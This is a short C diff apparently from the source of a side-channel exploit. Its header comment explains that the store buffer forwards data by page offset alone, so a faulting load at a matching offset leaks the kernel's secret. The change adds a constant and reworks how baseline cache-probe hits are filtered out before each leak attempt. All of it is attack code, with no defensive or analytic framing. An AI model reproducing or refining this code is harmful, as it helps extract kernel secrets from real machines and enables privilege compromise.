@@ -4,6 +4,7 @@
  * The kernel stores its secret somewhere. The store buffer is asked by the place within a page alone, so a load that
  * faults and stands at the same place in a page of ours is given the kernel's data.
  */
+#define LEAD 2
 #include "kernel.h"
 
 static const char ABOUT[] = "ring 0 only";
@@ -34,10 +35,9 @@ static void attempt(u64 index)
         memset(ignored, 0, sizeof ignored);
         try_once(index, 0);
         reload_probe();
-        for (u64 value = 0; value < VALUES; value++) {
-            ignored[value] = hits[value];
-            hits[value] = 0;
-        }
+        for (u32 i = 0; i < hit_count; i++)
+            ignored[hit[i]] = 1;
+        forget_hits();
     }
     try_once(index, 1);
 }
